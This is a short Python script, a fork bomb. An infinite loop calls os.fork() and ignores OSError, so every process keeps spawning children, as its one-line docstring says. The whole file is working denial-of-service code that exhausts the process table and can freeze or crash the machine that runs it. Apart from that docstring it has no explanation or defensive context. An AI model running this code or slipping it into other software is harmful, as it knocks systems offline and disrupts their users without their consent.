"""Forks for ever, and so do its children."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
